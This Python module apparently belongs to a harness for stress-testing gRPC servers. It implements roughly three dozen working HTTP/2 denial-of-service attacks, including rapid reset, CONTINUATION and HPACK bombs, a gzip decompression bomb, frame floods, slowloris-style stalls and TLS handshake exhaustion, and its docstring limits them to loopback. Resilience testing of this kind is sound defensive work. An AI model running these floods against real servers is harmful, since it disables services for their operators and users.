"""Attacks on a gRPC server by anyone who can connect: KINDS, by name.

Each is a function of the target (http2.Target) and the time to stop (time.monotonic());
it may end early. Loopback only, and bounded in count and time.
"""

import socket
import ssl
import struct
import threading
import time
import zlib

import http2
from http2 import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING,
                   PREFACE, PRIORITY, RESET, SETTINGS, WINDOW_UPDATE, frame, literal, message,
                   request)

MIB = 1 << 20
CONNECTIONS_MAX = 3000  # of one attack
ROUNDS_MAX = 200000
CLOSED = (OSError, ssl.SSLError)


def running(until):
    """Counts rounds until the time is up."""
    for i in range(ROUNDS_MAX):
        if time.monotonic() > until:
            return
        yield i


def drain(sock):
    """Reads and forgets all that comes, so that the server can go on."""
    def read():
        try:
            while sock.recv(65536):
                pass
        except (CLOSED + (ValueError,)):
            pass
    threading.Thread(target=read, daemon=True).start()


def flood(target, until, start, pieces, read=True):
    """Sends `start`, then pieces(i) for ever; connects again whenever it is closed."""
    for _ in running(until):
        try:
            with target.connect() as sock:
                if read and not target.tls:
                    drain(sock)
                sock.sendall(start)
                for i in running(until):
                    sock.sendall(pieces(i))
        except CLOSED:
            time.sleep(0.001)


def hold(target, until, opened, count=CONNECTIONS_MAX, refresh=None):
    """Opens connections by opened() and holds them, replacing those that are closed."""
    held = []
    for i in running(until):
        if len(held) < count:
            try:
                held.append(opened())
            except CLOSED:
                time.sleep(0.005)
        if refresh and held:
            try:
                refresh(held[i % len(held)], i)
            except CLOSED:
                held.pop(i % len(held)).close()
        if len(held) >= count:
            time.sleep(0.001)
            if not refresh:
                held.pop(0).close()
    for sock in held:
        sock.close()


def varint(value, prefix_bits):
    limit = (1 << prefix_bits) - 1
    value -= limit
    out = [limit]
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def bigstring(target, until):
    """One header that promises 1 GiB."""
    flood(target, until, frame(HEADERS, 0, 1, b"\x00\x01a" + varint(1 << 30, 7)),
          lambda i: frame(CONTINUATION, 0, 1, b"v" * 16384))


def varint_flood(target, until):
    """An HPACK integer that never ends."""
    flood(target, until, frame(HEADERS, 0, 1, b"\x00\x01a\x7f" + b"\x80" * 16000),
          lambda i: frame(CONTINUATION, 0, 1, b"\x80" * 16384))


def continuation(target, until):
    """A header block that never ends."""
    header = b"\x00\x01a\x7f\x81\x00" + b"v" * 256
    flood(target, until, frame(HEADERS, 0, 1, b"\x00\x01a\x01b"),
          lambda i: frame(CONTINUATION, 0, 1, header * 50))


def calls_of(target, i, count, tail):
    first = 2 * i * count + 1
    return b"".join(target.headers(stream) + tail(stream)
                    for stream in range(first, first + 2 * count, 2))


def reset(target, until):
    """Calls that are reset at once (rapid reset)."""
    flood(target, until, b"",
          lambda i: calls_of(target, i, 500, lambda s: frame(RESET, 0, s, b"\0\0\0\x08")))


def forced_resets(target, until):
    """Calls that the server has to reset: a window update of nothing."""
    flood(target, until, b"",
          lambda i: calls_of(target, i, 50, lambda s: frame(WINDOW_UPDATE, 0, s, b"\0\0\0\0")))


def too_many_calls(target, until):
    """More calls at once than are allowed."""
    flood(target, until, b"", lambda i: calls_of(target, i, 500, lambda s: b""))


def fds(target, until):
    """400 connections at once, again and again."""
    for _ in running(until):
        socks = []
        try:
            for _ in range(400):
                socks.append(target.tcp(1.0))
        except OSError:
            pass
        for sock in socks:
            sock.close()


def gzip(target, until):
    """A message of 1 MB that unpacks to 1 GB."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(MIB)) + packer.flush(zlib.Z_FULL_FLUSH)  # stands for itself
    packed = b"\x1f\x8b\x08" + bytes(7) + block * 900  # what unpacks it meets no end
    body = message(packed, flags=1)
    headers = request(target.method, literal(b"grpc-encoding", b"gzip"))
    pieces = [frame(DATA, 0, 1, body[at:at + 16384]) for at in range(0, len(body), 16384)]
    for _ in running(until):
        try:
            with target.connect() as sock:
                if not target.tls:
                    drain(sock)
                sock.sendall(frame(HEADERS, END_HEADERS, 1, headers))
                for piece in pieces:
                    sock.sendall(piece)
                    time.sleep(0.002)
        except CLOSED:
            time.sleep(0.01)


def settings(target, until):
    flood(target, until, b"", lambda i: frame(SETTINGS, 0, 0) * 1000)


def settings_entries(target, until):
    """Frames full of settings, which resize the header table to and fro."""
    entries = struct.pack(">HIHI", 1, 0, 1, 1 << 30) * 1300
    flood(target, until, b"", lambda i: frame(SETTINGS, 0, 0, entries))


def settings_windows(target, until):
    """Settings that move the windows of many calls, within what is allowed."""
    flood(target, until, calls_of(target, 0, 100, lambda s: b""),
          lambda i: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, i % 2 * 0x7fff0000) * 32))


def acks(target, until):
    flood(target, until, b"", lambda i: frame(SETTINGS, ACK, 0) * 1000)


def pings(target, until):
    flood(target, until, b"", lambda i: frame(PING, 0, 0, b"12345678") * 1000)


def pings_unread(target, until):
    """Pings whose answers are never read."""
    flood(target, until, b"", lambda i: frame(PING, 0, 0, b"12345678") * 100, read=False)


def ping_acks(target, until):
    flood(target, until, b"", lambda i: frame(PING, ACK, 0, b"12345678") * 1000)


def priorities(target, until):
    flood(target, until, b"", lambda i: frame(PRIORITY, 0, 2 * i + 1, b"\0\0\0\0\x10") * 1000)


def window_updates(target, until):
    flood(target, until, target.headers(1),
          lambda i: (frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01") +
                     frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\x01")) * 500)


def unknown(target, until):
    flood(target, until, b"", lambda i: frame(0xfa, 0, 0, b"?" * 16) * 1000)


def goaways(target, until):
    flood(target, until, b"", lambda i: frame(GOAWAY, 0, 0, bytes(8)) * 1000)


def empty_data(target, until):
    flood(target, until, target.headers(1), lambda i: frame(DATA, 0, 1) * 1000)


def crumbs(target, until):
    """A message in frames of one byte, in many calls."""
    start = b"".join(target.headers(s) + frame(DATA, 0, s, message(bytes(MIB))[:5])
                     for s in range(1, 101, 2))
    flood(target, until, start,
          lambda i: b"".join(frame(DATA, 0, s, b"x") for s in range(1, 101, 2)) * 20)


def half_messages(target, until):
    """Most of a large message in each of many calls on many connections."""
    part = message(bytes(MIB))[:60000]
    pieces = [part[at:at + 16000] for at in range(0, len(part), 16000)]

    def opened():
        sock = target.connect()
        sock.sendall(b"".join(target.headers(s) + b"".join(frame(DATA, 0, s, p) for p in pieces)
                              for s in range(1, 200, 2)))
        return sock
    hold(target, until, opened, count=100)


def stray_data(target, until):
    """DATA for a call that is over."""
    flood(target, until, target.headers(1) + frame(RESET, 0, 1, b"\0\0\0\x08"),
          lambda i: frame(DATA, 0, 1, b"x") * 1000)


def hpack_bomb(target, until):
    """Header blocks that name one large header of the dynamic table thousands of times."""
    def block(i):
        stream = 2 * i + 1
        bomb = request(target.method) + b"\xbe" * 16000
        return frame(HEADERS, END_HEADERS | END_STREAM, stream, bomb)
    store = request(target.method) + b"\x40\x01a" + varint(3900, 7) + b"v" * 3900
    flood(target, until, frame(HEADERS, END_HEADERS | END_STREAM, 1, store),
          lambda i: block(i + 1))


def silent(target, until):
    """Thousands of connections that say nothing."""
    hold(target, until, lambda: target.tcp(1.0))


def greeted(target, until):
    """Thousands of connections that only greet."""
    hold(target, until, lambda: target.connect(1.0))


def churn(target, until):
    """Connections that greet and leave, as fast as they can."""
    for _ in running(until):
        try:
            target.connect(1.0).close()
        except CLOSED:
            time.sleep(0.001)


def not_reading(target, until):
    """Calls that send and never read what is echoed."""
    data = b"".join(frame(DATA, 0, 1, message(bytes(8000))) for _ in range(8))

    def opened():
        sock = target.connect(0.5, struct.pack(">HI", 4, 0x7fffffff))
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.sendall(frame(WINDOW_UPDATE, 0, 0, b"\x7f\0\0\0") + target.headers(1))
        return sock
    hold(target, until, opened, count=100, refresh=lambda sock, i: sock.sendall(data))


def window_shut(target, until):
    """Finished calls whose answers have no window to go to."""
    def opened():
        sock = target.connect(0.5, struct.pack(">HI", 4, 0))
        sock.sendall(b"".join(target.headers(s) + frame(DATA, END_STREAM, s, message(bytes(15000)))
                              for s in range(1, 200, 2)))
        return sock
    hold(target, until, opened, count=100)


def tls_stall(target, until):
    """TLS handshakes that stop after the first bytes."""
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(100)

    def opened():
        sock = target.tcp(1.0)
        sock.sendall(hello)
        return sock
    hold(target, until, opened)


def tls_churn(target, until):
    """TLS handshakes without end; the server's share of one is the larger."""
    if not target.tls:
        return churn(target, until)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    for _ in running(until):
        try:
            context.wrap_socket(target.tcp(1.0)).close()
        except CLOSED:
            time.sleep(0.001)
    return None


def no_message(target, until):
    """Calls that bring no message, as many as there may be."""
    def opened():
        sock = target.connect(1.0)
        sock.sendall(b"".join(target.headers(s) for s in range(1, 200, 2)))
        return sock
    hold(target, until, opened, count=1000)


def slow_headers(target, until):
    """Header bytes one at a time, on many connections."""
    block = target.headers(1, 0)

    def opened():
        sock = target.connect(1.0)
        sock.sendall(block[:10])
        return sock
    hold(target, until, opened, count=300,
         refresh=lambda sock, i: sock.sendall(block[10:11]))


def slow_preface(target, until):
    """Preface bytes one at a time, on many connections."""
    def opened():
        sock = target.tcp(1.0)
        sock.sendall(PREFACE[:1])
        return sock
    hold(target, until, opened, count=300)


def small_messages(target, until):
    """The smallest messages there are, one a frame: honest, only many."""
    flood(target, until, target.headers(1), lambda i: frame(DATA, 0, 1, message()) * 1000)


def small_calls(target, until):
    """As many whole calls as the server takes."""
    def calls(i):
        return b"".join(
            frame(HEADERS, END_HEADERS, s, request(http2.HEALTH_CHECK)) +
            frame(DATA, END_STREAM, s, message()) for s in range(200 * i + 1, 200 * i + 200, 20))
    flood(target, until, b"", calls)


KINDS = {
    "bigstring": bigstring, "varint": varint_flood, "continuation": continuation,
    "reset": reset, "fds": fds, "gzip": gzip,
    "forced_resets": forced_resets, "too_many_calls": too_many_calls,
    "settings": settings, "settings_entries": settings_entries,
    "settings_windows": settings_windows, "acks": acks,
    "pings": pings, "pings_unread": pings_unread, "ping_acks": ping_acks,
    "priorities": priorities, "window_updates": window_updates, "unknown": unknown,
    "goaways": goaways, "empty_data": empty_data, "crumbs": crumbs,
    "half_messages": half_messages, "stray_data": stray_data, "hpack_bomb": hpack_bomb,
    "silent": silent, "greeted": greeted, "churn": churn, "not_reading": not_reading,
    "window_shut": window_shut, "tls_stall": tls_stall, "tls_churn": tls_churn,
    "no_message": no_message, "slow_headers": slow_headers, "slow_preface": slow_preface,
    "small_messages": small_messages, "small_calls": small_calls,
}
